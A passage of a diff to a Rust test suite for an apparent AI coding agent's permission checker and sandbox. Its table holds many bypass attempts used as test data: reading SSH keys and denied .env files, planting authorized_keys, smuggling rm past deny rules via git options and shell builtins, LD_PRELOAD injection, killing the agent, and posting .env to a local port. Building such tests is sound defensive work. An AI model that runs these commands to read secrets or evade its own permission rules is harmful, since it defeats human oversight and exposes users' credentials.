@@ -11,18 +11,18 @@ use std::os::unix::fs::{MetadataExt as _, symlink};
 use std::os::unix::net::{UnixDatagram, UnixListener};
 use std::path::{Path, PathBuf};
 
-use quipu_engine::permission::{Mode, Verdict, hidden, judge, refused};
-use quipu_engine::sandbox::{self, Level, Profile};
-use quipu_engine::tool::{Call, Options, Output, Place, Tool as _};
+use quipu_engine::permission::{Decision, PermissionMode, evaluate, hidden_file_filter, sandbox_restrictions};
+use quipu_engine::sandbox::{self, SandboxLevel, SandboxProfile};
+use quipu_engine::tool::{CallContext, Tool as _, ToolOutput, Workspace, WorkspaceOptions};
 use quipu_engine::tools::bash::Bash;
 use serde_json::json;
 use tempfile::TempDir;
 
-use crate::sandboxed::{kernel_can, sandbox};
-use crate::{rules, said};
+use crate::sandboxed_commands::{kernel_can, real_sandbox_options};
+use crate::{output_text, parse_rules};
 
 /// One attempt: name, mode, rules, command.
-pub(crate) type Row = (&'static str, Mode, &'static [&'static str], &'static str);
+pub(crate) type Row = (&'static str, PermissionMode, &'static [&'static str], &'static str);
 
 /// What may not be read in the attempts about rules.
 const NO_ENV: &[&str] = &["deny Read(./.env)", "deny Read(./src/.env)"];
@@ -31,164 +31,164 @@ const NO_ENV: &[&str] = &["deny Read(./.env)", "deny Read(./src/.env)"];
 /// folder outside the session's, and the session's own; `@PORT@` for a port that listens.
 #[rustfmt::skip]
 pub(crate) const ROWS: &[Row] = &[
-    ("a list", Mode::Default, &[], "ls; touch x"),
-    ("a substitution", Mode::Default, &[], "echo $(touch x)"),
-    ("a process substitution", Mode::Default, &[], "cat <(touch x)"),
-    ("a here-document that expands", Mode::Default, &[], "cat <<E\n$(touch x)\nE"),
-    ("a redirection", Mode::Default, &[], "echo hi > x"),
-    ("a redirection outside", Mode::AcceptEdits, &[], "echo hi > @OUT@/x"),
-    ("find that runs", Mode::Default, &[], "find . -name a.txt -exec touch x ;"),
-    ("find that deletes", Mode::Default, &[], "find . -name a.txt -delete"),
-    ("sort that writes", Mode::Default, &[], "sort -o x a.txt"),
-    ("git that writes", Mode::Default, &[], "git log --output=x"),
-    ("home", Mode::Default, &[], "cat @HOME@/.ssh/id_rsa"),
-    ("home by tilde", Mode::Default, &[], "cat ~/.ssh/id_rsa"),
-    ("cd home", Mode::Default, &[], "cd && cat .ssh/id_rsa"),
-    ("a link outside", Mode::Default, &[], "cat link"),
-    ("a refused file", Mode::Default, NO_ENV, "cat .env"),
-    ("a refused file by pattern", Mode::Default, NO_ENV, "cat .e*"),
-    ("a refused file by grep -r", Mode::Default, NO_ENV, "grep -r SECRET ."),
-    ("a guarded file", Mode::AcceptEdits, &[], "cp a.txt .claude/settings.json"),
-    ("a guarded folder", Mode::AcceptEdits, &[], "rm -rf .git"),
-    ("D1: the end word of a here-document, split", Mode::Default, &[], "cat <<EOF\nEO\\\nF\ntouch one\nEOF"),
-    ("D1: the end word, split where it is named", Mode::Default, &[], "cat <<EO\\\nF\n$(touch two)\nEOF"),
-    ("D1: a substitution, split", Mode::Default, &[], "echo \"$\\\n(touch three)\""),
-    ("D1: a substitution in a here-document, split", Mode::Default, &[], "cat <<EOF\n$\\\n(touch four)\nEOF"),
-    ("D1: a variable, split", Mode::Default, &[], "cat $\\\nHOME/.ssh/id_rsa"),
-    ("D1: beside an allowed command", Mode::Default, &["allow Bash(git status:*)"], "git status <<EO\\\nF\n$(touch five)\nEOF"),
-    ("D1: past a deny rule", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "cat <<EOF\nEO\\\nF\nrm -f a.txt\nEOF"),
-    ("D2: a repository inside the clone", Mode::Default, &[], "cd docs && git status"),
-    ("D3: a target in an option", Mode::AcceptEdits, &[], "cp -t.git config && git status"),
-    ("D3: a tree with guarded files", Mode::AcceptEdits, &[], "cp -r -t. tmpl/."),
-    ("D3: a linked target in an option", Mode::AcceptEdits, &[], "mv -tlinkdir a.txt"),
-    ("D4: cd with an option leads home", Mode::Default, &[], "cd -- && cat .ssh/id_rsa"),
-    ("D4: and writes there", Mode::AcceptEdits, &[], "cd -P && mkdir -p .ssh && echo k > .ssh/authorized_keys"),
-    ("D5: cd through a link and back", Mode::Default, &[], "cd l/../.. && cat out/secret.txt"),
-    ("D5: and writes there", Mode::AcceptEdits, &[], "cd l/../../.. && echo x > dropped"),
-    ("D8: a refused file behind cd", Mode::Default, NO_ENV, "cd src && cat .env"),
-    ("D8: a refused file above, behind cd", Mode::Default, &["deny Read(./.env)", "allow Bash(cat:*)"], "cd src && cat ../.env"),
-    ("D8: a refused change behind cd", Mode::AcceptEdits, &["deny Edit(./src/.env)"], "cd src && echo PWN > .env"),
-    ("D8: a refused file behind two changes of folder", Mode::Default, &["deny Read(./src/.env)", "allow Bash"], "cd src && cd . && cat .env"),
-    ("D8: a refused file behind env", Mode::Default, &["deny Read(./src/.env)", "allow Bash"], "env -C src cat .env"),
-    ("D8: a refused file behind a shell", Mode::Default, &["deny Read(./src/.env)", "allow Bash"], "sh -c 'cat src/.env'"),
-    ("D9: grep -d recurse", Mode::Default, NO_ENV, "grep -d recurse '' ."),
-    ("D9: diff of folders", Mode::Default, NO_ENV, "diff -N . empty"),
-    ("D9: braces", Mode::Default, NO_ENV, "cat .e{},nv}"),
-    ("D9: a link that looks like an option", Mode::Default, &[], "cat -- -link"),
-    ("D9: a file in an option", Mode::Default, &[], "diff --from-file=link a.txt"),
-    ("D9: the other file in an option", Mode::Default, &[], "diff --to-file=link a.txt"),
-    ("D9: patterns from a refused file", Mode::Default, NO_ENV, "grep -f.env src/.env"),
-    ("D9: a tracked refused file", Mode::Default, NO_ENV, "git show HEAD:.env"),
-    ("D10: a moved link, written through", Mode::AcceptEdits, &[], "mv tmpl new && echo PWN > new/evil"),
-    ("D10: a copied link, written through", Mode::AcceptEdits, &[], "cp -r tmpl new && echo PWN > new/evil"),
-    ("D18: sh -s", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | sh -s arg"),
-    ("D18: sh -s in bypassPermissions", Mode::BypassPermissions, &["deny Bash(rm:*)"], "echo 'rm a.txt' | sh -s arg"),
-    ("D18: bash /dev/stdin", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | bash /dev/stdin"),
-    ("D18: bash +x", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | bash +x"),
-    ("D18: bash -o", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | bash -o posix"),
-    ("D18: source", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "source /dev/stdin <<< 'rm a.txt'"),
-    ("D18: source in bypassPermissions", Mode::BypassPermissions, &["deny Bash(rm:*)"], "source /dev/stdin <<< 'rm a.txt'"),
-    ("D18: xargs env", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo rm a.txt | xargs env"),
-    ("D18: xargs timeout", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo rm a.txt | xargs timeout 5"),
-    ("D18: upload-pack", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "git ls-remote --upload-pack='rm a.txt;' ."),
-    ("D18: config-env", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "XX='!rm a.txt' git --config-env=alias.y=XX y"),
-    ("D18: hash", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "hash -p /bin/rm foo && foo a.txt"),
-    ("D18: let", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "let 'a[$(rm a.txt)]=1'"),
-    ("D18: let in bypassPermissions", Mode::BypassPermissions, &["deny Bash(rm:*)"], "let 'a[$(rm a.txt)]=1'"),
-    ("D18: test -v", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "test -v 'a[$(rm a.txt)]'"),
-    ("D18: printf -v", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "printf -v 'a[$(rm a.txt)]' x"),
-    ("D18: read", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "read 'a[$(rm a.txt)]' <<< x"),
-    ("D18: mapfile", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "mapfile -C 'rm a.txt #' -c 1 <<< x"),
-    ("D18: compgen", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "compgen -C 'rm a.txt' x"),
-    ("D18: the loader", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "/lib64/ld-linux-x86-64.so.2 /bin/rm a.txt"),
-    ("D19: a pattern where all commands are allowed", Mode::Default, &["allow Bash", "deny Read(./.env)"], "cat .e*"),
-    ("D19: a variable where all commands are allowed", Mode::Default, &["allow Bash", "deny Read(./.env)"], "cat ${PWD}/.env"),
-    ("D21: a guarded file where Edit is allowed", Mode::Default, &["allow Edit", "allow Write"], "echo x > .git/config"),
-    ("D25: the clock", Mode::Default, &[], "date 010100002020"),
-    ("D27: a file that Write may not change", Mode::AcceptEdits, &["deny Write(./a.txt)"], "echo x > a.txt"),
-    ("D31: a folder of that name", Mode::Default, &["deny Read(src/**)"], "cat src/.env"),
+    ("a list", PermissionMode::Default, &[], "ls; touch x"),
+    ("a substitution", PermissionMode::Default, &[], "echo $(touch x)"),
+    ("a process substitution", PermissionMode::Default, &[], "cat <(touch x)"),
+    ("a here-document that expands", PermissionMode::Default, &[], "cat <<E\n$(touch x)\nE"),
+    ("a redirection", PermissionMode::Default, &[], "echo hi > x"),
+    ("a redirection outside", PermissionMode::AcceptEdits, &[], "echo hi > @OUT@/x"),
+    ("find that runs", PermissionMode::Default, &[], "find . -name a.txt -exec touch x ;"),
+    ("find that deletes", PermissionMode::Default, &[], "find . -name a.txt -delete"),
+    ("sort that writes", PermissionMode::Default, &[], "sort -o x a.txt"),
+    ("git that writes", PermissionMode::Default, &[], "git log --output=x"),
+    ("home", PermissionMode::Default, &[], "cat @HOME@/.ssh/id_rsa"),
+    ("home by tilde", PermissionMode::Default, &[], "cat ~/.ssh/id_rsa"),
+    ("cd home", PermissionMode::Default, &[], "cd && cat .ssh/id_rsa"),
+    ("a link outside", PermissionMode::Default, &[], "cat link"),
+    ("a refused file", PermissionMode::Default, NO_ENV, "cat .env"),
+    ("a refused file by pattern", PermissionMode::Default, NO_ENV, "cat .e*"),
+    ("a refused file by grep -r", PermissionMode::Default, NO_ENV, "grep -r SECRET ."),
+    ("a guarded file", PermissionMode::AcceptEdits, &[], "cp a.txt .claude/settings.json"),
+    ("a guarded folder", PermissionMode::AcceptEdits, &[], "rm -rf .git"),
+    ("D1: the end word of a here-document, split", PermissionMode::Default, &[], "cat <<EOF\nEO\\\nF\ntouch one\nEOF"),
+    ("D1: the end word, split where it is named", PermissionMode::Default, &[], "cat <<EO\\\nF\n$(touch two)\nEOF"),
+    ("D1: a substitution, split", PermissionMode::Default, &[], "echo \"$\\\n(touch three)\""),
+    ("D1: a substitution in a here-document, split", PermissionMode::Default, &[], "cat <<EOF\n$\\\n(touch four)\nEOF"),
+    ("D1: a variable, split", PermissionMode::Default, &[], "cat $\\\nHOME/.ssh/id_rsa"),
+    ("D1: beside an allowed command", PermissionMode::Default, &["allow Bash(git status:*)"], "git status <<EO\\\nF\n$(touch five)\nEOF"),
+    ("D1: past a deny rule", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "cat <<EOF\nEO\\\nF\nrm -f a.txt\nEOF"),
+    ("D2: a repository inside the clone", PermissionMode::Default, &[], "cd docs && git status"),
+    ("D3: a target in an option", PermissionMode::AcceptEdits, &[], "cp -t.git config && git status"),
+    ("D3: a tree with guarded files", PermissionMode::AcceptEdits, &[], "cp -r -t. tmpl/."),
+    ("D3: a linked target in an option", PermissionMode::AcceptEdits, &[], "mv -tlinkdir a.txt"),
+    ("D4: cd with an option leads home", PermissionMode::Default, &[], "cd -- && cat .ssh/id_rsa"),
+    ("D4: and writes there", PermissionMode::AcceptEdits, &[], "cd -P && mkdir -p .ssh && echo k > .ssh/authorized_keys"),
+    ("D5: cd through a link and back", PermissionMode::Default, &[], "cd l/../.. && cat out/secret.txt"),
+    ("D5: and writes there", PermissionMode::AcceptEdits, &[], "cd l/../../.. && echo x > dropped"),
+    ("D8: a refused file behind cd", PermissionMode::Default, NO_ENV, "cd src && cat .env"),
+    ("D8: a refused file above, behind cd", PermissionMode::Default, &["deny Read(./.env)", "allow Bash(cat:*)"], "cd src && cat ../.env"),
+    ("D8: a refused change behind cd", PermissionMode::AcceptEdits, &["deny Edit(./src/.env)"], "cd src && echo PWN > .env"),
+    ("D8: a refused file behind two changes of folder", PermissionMode::Default, &["deny Read(./src/.env)", "allow Bash"], "cd src && cd . && cat .env"),
+    ("D8: a refused file behind env", PermissionMode::Default, &["deny Read(./src/.env)", "allow Bash"], "env -C src cat .env"),
+    ("D8: a refused file behind a shell", PermissionMode::Default, &["deny Read(./src/.env)", "allow Bash"], "sh -c 'cat src/.env'"),
+    ("D9: grep -d recurse", PermissionMode::Default, NO_ENV, "grep -d recurse '' ."),
+    ("D9: diff of folders", PermissionMode::Default, NO_ENV, "diff -N . empty"),
+    ("D9: braces", PermissionMode::Default, NO_ENV, "cat .e{},nv}"),
+    ("D9: a link that looks like an option", PermissionMode::Default, &[], "cat -- -link"),
+    ("D9: a file in an option", PermissionMode::Default, &[], "diff --from-file=link a.txt"),
+    ("D9: the other file in an option", PermissionMode::Default, &[], "diff --to-file=link a.txt"),
+    ("D9: patterns from a refused file", PermissionMode::Default, NO_ENV, "grep -f.env src/.env"),
+    ("D9: a tracked refused file", PermissionMode::Default, NO_ENV, "git show HEAD:.env"),
+    ("D10: a moved link, written through", PermissionMode::AcceptEdits, &[], "mv tmpl new && echo PWN > new/evil"),
+    ("D10: a copied link, written through", PermissionMode::AcceptEdits, &[], "cp -r tmpl new && echo PWN > new/evil"),
+    ("D18: sh -s", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | sh -s arg"),
+    ("D18: sh -s in bypassPermissions", PermissionMode::BypassPermissions, &["deny Bash(rm:*)"], "echo 'rm a.txt' | sh -s arg"),
+    ("D18: bash /dev/stdin", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | bash /dev/stdin"),
+    ("D18: bash +x", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | bash +x"),
+    ("D18: bash -o", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo 'rm a.txt' | bash -o posix"),
+    ("D18: source", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "source /dev/stdin <<< 'rm a.txt'"),
+    ("D18: source in bypassPermissions", PermissionMode::BypassPermissions, &["deny Bash(rm:*)"], "source /dev/stdin <<< 'rm a.txt'"),
+    ("D18: xargs env", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo rm a.txt | xargs env"),
+    ("D18: xargs timeout", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "echo rm a.txt | xargs timeout 5"),
+    ("D18: upload-pack", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "git ls-remote --upload-pack='rm a.txt;' ."),
+    ("D18: config-env", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "XX='!rm a.txt' git --config-env=alias.y=XX y"),
+    ("D18: hash", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "hash -p /bin/rm foo && foo a.txt"),
+    ("D18: let", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "let 'a[$(rm a.txt)]=1'"),
+    ("D18: let in bypassPermissions", PermissionMode::BypassPermissions, &["deny Bash(rm:*)"], "let 'a[$(rm a.txt)]=1'"),
+    ("D18: test -v", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "test -v 'a[$(rm a.txt)]'"),
+    ("D18: printf -v", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "printf -v 'a[$(rm a.txt)]' x"),
+    ("D18: read", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "read 'a[$(rm a.txt)]' <<< x"),
+    ("D18: mapfile", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "mapfile -C 'rm a.txt #' -c 1 <<< x"),
+    ("D18: compgen", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "compgen -C 'rm a.txt' x"),
+    ("D18: the loader", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "/lib64/ld-linux-x86-64.so.2 /bin/rm a.txt"),
+    ("D19: a pattern where all commands are allowed", PermissionMode::Default, &["allow Bash", "deny Read(./.env)"], "cat .e*"),
+    ("D19: a variable where all commands are allowed", PermissionMode::Default, &["allow Bash", "deny Read(./.env)"], "cat ${PWD}/.env"),
+    ("D21: a guarded file where Edit is allowed", PermissionMode::Default, &["allow Edit", "allow Write"], "echo x > .git/config"),
+    ("D25: the clock", PermissionMode::Default, &[], "date 010100002020"),
+    ("D27: a file that Write may not change", PermissionMode::AcceptEdits, &["deny Write(./a.txt)"], "echo x > a.txt"),
+    ("D31: a folder of that name", PermissionMode::Default, &["deny Read(src/**)"], "cat src/.env"),
     // A second round, from docs/permissions.md alone.
-    ("a search where all commands are allowed", Mode::Default, &["allow Bash", "deny Read(**/.env)", "deny Read(./.env)"], "grep -r SECRET ."),
-    ("names from a pipe", Mode::Default, &["allow Bash", "deny Read(./.env)"], "ls -a | xargs cat"),
-    ("code of another program", Mode::Default, &["allow Bash", "deny Read(./.env)"], "python3 -c 'print(open(\".env\").read())'"),
-    ("D1 c: a split variable in braces", Mode::Default, &[], "cat \"$\\\n{HOME}/.ssh/id_rsa\""),
-    ("D9 braces for a link", Mode::Default, &[], "cat li{},nk}"),
-    ("D10 mv, then cp into a folder", Mode::AcceptEdits, &[], "mv linkdir d && cp a.txt d/x"),
-    ("D20 the agent's environment", Mode::Default, &[], "tr '\\0' '\\n' < /proc/$PPID/environ | grep -q . && touch x"),
+    ("a search where all commands are allowed", PermissionMode::Default, &["allow Bash", "deny Read(**/.env)", "deny Read(./.env)"], "grep -r SECRET ."),
+    ("names from a pipe", PermissionMode::Default, &["allow Bash", "deny Read(./.env)"], "ls -a | xargs cat"),
+    ("code of another program", PermissionMode::Default, &["allow Bash", "deny Read(./.env)"], "python3 -c 'print(open(\".env\").read())'"),
+    ("D1 c: a split variable in braces", PermissionMode::Default, &[], "cat \"$\\\n{HOME}/.ssh/id_rsa\""),
+    ("D9 braces for a link", PermissionMode::Default, &[], "cat li{},nk}"),
+    ("D10 mv, then cp into a folder", PermissionMode::AcceptEdits, &[], "mv linkdir d && cp a.txt d/x"),
+    ("D20 the agent's environment", PermissionMode::Default, &[], "tr '\\0' '\\n' < /proc/$PPID/environ | grep -q . && touch x"),
     // What a program does that somehow runs, for the sandbox alone.
-    ("a mode", Mode::Default, &[], "chmod 777 a.txt"),
-    ("a time", Mode::Default, &[], "touch -d 2001-01-01 a.txt"),
-    ("an attribute", Mode::Default, &[], "setfattr -n user.x -v y a.txt; /usr/bin/python3 -c 'import os; os.setxattr(\"a.txt\", \"user.x\", b\"y\")'"),
-    ("a link to write through", Mode::Default, &[], "ln a.txt $TMPDIR/hard && echo x > $TMPDIR/hard"),
-    ("a move into the temporary folder", Mode::Default, &[], "mv a.txt $TMPDIR/"),
-    ("another process's view of files", Mode::Default, &[], "cat /proc/[0-9]*/root@HOME@/.ssh/id_rsa"),
-    ("a new user namespace", Mode::Default, &[], "unshare -Ur touch x; unshare -Urm sh -c 'umount .env; cat .env'"),
-    ("a mount taken away", Mode::Default, NO_ENV, "umount .env; umount -l .env; cat .env"),
-    ("a covered file moved", Mode::Default, NO_ENV, "mv src s2; cat s2/.env; cat < .env; cp .env $TMPDIR/e; cat $TMPDIR/e"),
-    ("a covered file by another program", Mode::Default, NO_ENV, "/usr/bin/python3 -c 'print(open(\".env\").read())'; tar cf - . | tr -d '\\0'"),
-    ("a covered file by its folder above", Mode::Default, NO_ENV, "cat @P@/src/../.env /proc/self/cwd/.env /proc/self/root@P@/.env"),
-    ("a TCP connection", Mode::Default, &[], "echo x > /dev/tcp/127.0.0.1/@PORT@; curl -s http://127.0.0.1:@PORT@/"),
-    ("a datagram", Mode::Default, &[], "echo x > /dev/udp/127.0.0.1/@PORT@"),
-    ("a Unix socket", Mode::Default, &[], "/usr/bin/python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"@OUT@/sock\")'"),
-    ("a child that stays", Mode::Default, &[], "(setsid sh -c 'sleep 0.2; touch x' &)"),
-    ("older calls of the kernel", Mode::Default, &[], "/usr/bin/python3 -c 'import ctypes; c = ctypes.CDLL(None); c.syscall(0x40000000 + 90, b\"a.txt\", 0o777); c.chmod(b\"a.txt\", 0o777); c.utime(b\"a.txt\", None); c.lchown(b\"a.txt\", 0, 0)'"),
-    ("a queue of calls", Mode::Default, &[], "/usr/bin/python3 -c 'import ctypes; b = ctypes.create_string_buffer(120); print(\"refused\" if ctypes.CDLL(None).syscall(425, 8, b) < 0 else \"SECRET\")'"),
-    ("a signal to the agent", Mode::Default, &[], "kill -9 $PPID; kill -TERM -1"),
-    ("code of the environment", Mode::Default, &[], "BASH_ENV=config bash -c 'touch x'; env LD_PRELOAD=./x.so ls"),
-    ("git with a program", Mode::Default, &[], "git -c core.fsmonitor='touch x' status; git -c alias.y='!touch x' y"),
+    ("a mode", PermissionMode::Default, &[], "chmod 777 a.txt"),
+    ("a time", PermissionMode::Default, &[], "touch -d 2001-01-01 a.txt"),
+    ("an attribute", PermissionMode::Default, &[], "setfattr -n user.x -v y a.txt; /usr/bin/python3 -c 'import os; os.setxattr(\"a.txt\", \"user.x\", b\"y\")'"),
+    ("a link to write through", PermissionMode::Default, &[], "ln a.txt $TMPDIR/hard && echo x > $TMPDIR/hard"),
+    ("a move into the temporary folder", PermissionMode::Default, &[], "mv a.txt $TMPDIR/"),
+    ("another process's view of files", PermissionMode::Default, &[], "cat /proc/[0-9]*/root@HOME@/.ssh/id_rsa"),
+    ("a new user namespace", PermissionMode::Default, &[], "unshare -Ur touch x; unshare -Urm sh -c 'umount .env; cat .env'"),
+    ("a mount taken away", PermissionMode::Default, NO_ENV, "umount .env; umount -l .env; cat .env"),
+    ("a covered file moved", PermissionMode::Default, NO_ENV, "mv src s2; cat s2/.env; cat < .env; cp .env $TMPDIR/e; cat $TMPDIR/e"),
+    ("a covered file by another program", PermissionMode::Default, NO_ENV, "/usr/bin/python3 -c 'print(open(\".env\").read())'; tar cf - . | tr -d '\\0'"),
+    ("a covered file by its folder above", PermissionMode::Default, NO_ENV, "cat @P@/src/../.env /proc/self/cwd/.env /proc/self/root@P@/.env"),
+    ("a TCP connection", PermissionMode::Default, &[], "echo x > /dev/tcp/127.0.0.1/@PORT@; curl -s http://127.0.0.1:@PORT@/"),
+    ("a datagram", PermissionMode::Default, &[], "echo x > /dev/udp/127.0.0.1/@PORT@"),
+    ("a Unix socket", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"@OUT@/sock\")'"),
+    ("a child that stays", PermissionMode::Default, &[], "(setsid sh -c 'sleep 0.2; touch x' &)"),
+    ("older calls of the kernel", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import ctypes; c = ctypes.CDLL(None); c.syscall(0x40000000 + 90, b\"a.txt\", 0o777); c.chmod(b\"a.txt\", 0o777); c.utime(b\"a.txt\", None); c.lchown(b\"a.txt\", 0, 0)'"),
+    ("a queue of calls", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import ctypes; b = ctypes.create_string_buffer(120); print(\"refused\" if ctypes.CDLL(None).syscall(425, 8, b) < 0 else \"SECRET\")'"),
+    ("a signal to the agent", PermissionMode::Default, &[], "kill -9 $PPID; kill -TERM -1"),
+    ("code of the environment", PermissionMode::Default, &[], "BASH_ENV=config bash -c 'touch x'; env LD_PRELOAD=./x.so ls"),
+    ("git with a program", PermissionMode::Default, &[], "git -c core.fsmonitor='touch x' status; git -c alias.y='!touch x' y"),
     // A third round, from docs/permissions.md alone.
-    ("git where a rule allows it, in another repository", Mode::Default, &["allow Bash(git status:*)"], "cd docs && git status"),
-    ("deny rules: choom", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "choom -n 5 -- rm a.txt"),
-    ("deny rules: ssh-agent", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "ssh-agent rm a.txt"),
-    ("deny rules: linux64", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "linux64 rm a.txt"),
-    ("deny rules: npm exec", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "npm exec -- rm a.txt"),
-    ("deny rules: npm exec -c", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "npm exec -c 'rm a.txt'"),
-    ("deny rules: npx", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "npx -c 'rm a.txt'"),
-    ("deny rules: sg", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "sg root 'rm a.txt'"),
-    ("deny rules: capsh", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "capsh -- -c 'rm a.txt'"),
-    ("deny rules: dbus-run-session", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "dbus-run-session rm a.txt"),
-    ("many guarded files", Mode::Auto, &[], "for i in $(seq 1100); do mkdir -p m/$i/.vscode; done"),
-    ("a link that makes a guarded file", Mode::Auto, &[], "mkdir -p d/git; touch d/git/config; ln -s d .config"),
-    ("a datagram from a pair of sockets", Mode::Default, &[], "/usr/bin/python3 -c 'import socket as s; s.socketpair(s.AF_UNIX, s.SOCK_DGRAM)[0].sendto(b\"x\", \"@OUT@/datagrams\")'"),
-    ("a datagram from a raw pair", Mode::Default, &[], "/usr/bin/python3 -c 'import socket as s; s.socketpair(s.AF_UNIX, s.SOCK_RAW)[0].sendto(b\"x\", \"@OUT@/datagrams\")'"),
-    ("shared memory of others", Mode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.shmat(7, 0, 0); print(\"refused\" if c.get_errno() == 1 else \"SECRET\")'"),
-    ("shared memory of others, removed", Mode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.shmctl(7, 0, 0); print(\"refused\" if c.get_errno() == 1 else \"SECRET\")'"),
-    ("flags of a file", Mode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.ioctl(l.open(b\"a.txt\", 0), 0x40086602, c.byref(c.c_long(64))); print(\"refused\" if c.get_errno() in (1, 30) else \"SECRET\")'"),
-    ("verity of a file", Mode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.ioctl(l.open(b\"a.txt\", 0), 0x40806685, c.create_string_buffer(128)); print(\"refused\" if c.get_errno() in (1, 30) else \"SECRET\")'"),
-    ("limits of the agent", Mode::Default, &[], "/usr/bin/python3 -c 'import os, resource as r; r.prlimit(os.getppid(), r.RLIMIT_NOFILE); print(\"SECRET\")'"),
-    ("a search by git where all commands are allowed", Mode::Default, &["allow Bash", "deny Read(**/.env)"], "git grep --untracked SECRET"),
-    ("git behind its own options", Mode::Default, &["allow Bash", "deny Read(**/.env)"], "git -C . diff --no-index empty ."),
-    ("grep -R without a folder", Mode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "grep -R SECRET"),
-    ("grep -d recurse without a folder", Mode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "grep -d recurse SECRET"),
-    ("an option of grep cut short", Mode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "grep --rec SECRET"),
-    ("rgrep", Mode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "rgrep SECRET"),
-    ("a file behind an at sign", Mode::Default, &["allow Bash", "deny Read(./.env)"], "curl -s -d @.env http://127.0.0.1:@PORT@/"),
+    ("git where a rule allows it, in another repository", PermissionMode::Default, &["allow Bash(git status:*)"], "cd docs && git status"),
+    ("deny rules: choom", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "choom -n 5 -- rm a.txt"),
+    ("deny rules: ssh-agent", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "ssh-agent rm a.txt"),
+    ("deny rules: linux64", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "linux64 rm a.txt"),
+    ("deny rules: npm exec", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "npm exec -- rm a.txt"),
+    ("deny rules: npm exec -c", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "npm exec -c 'rm a.txt'"),
+    ("deny rules: npx", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "npx -c 'rm a.txt'"),
+    ("deny rules: sg", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "sg root 'rm a.txt'"),
+    ("deny rules: capsh", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "capsh -- -c 'rm a.txt'"),
+    ("deny rules: dbus-run-session", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "dbus-run-session rm a.txt"),
+    ("many guarded files", PermissionMode::Auto, &[], "for i in $(seq 1100); do mkdir -p m/$i/.vscode; done"),
+    ("a link that makes a guarded file", PermissionMode::Auto, &[], "mkdir -p d/git; touch d/git/config; ln -s d .config"),
+    ("a datagram from a pair of sockets", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import socket as s; s.socketpair(s.AF_UNIX, s.SOCK_DGRAM)[0].sendto(b\"x\", \"@OUT@/datagrams\")'"),
+    ("a datagram from a raw pair", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import socket as s; s.socketpair(s.AF_UNIX, s.SOCK_RAW)[0].sendto(b\"x\", \"@OUT@/datagrams\")'"),
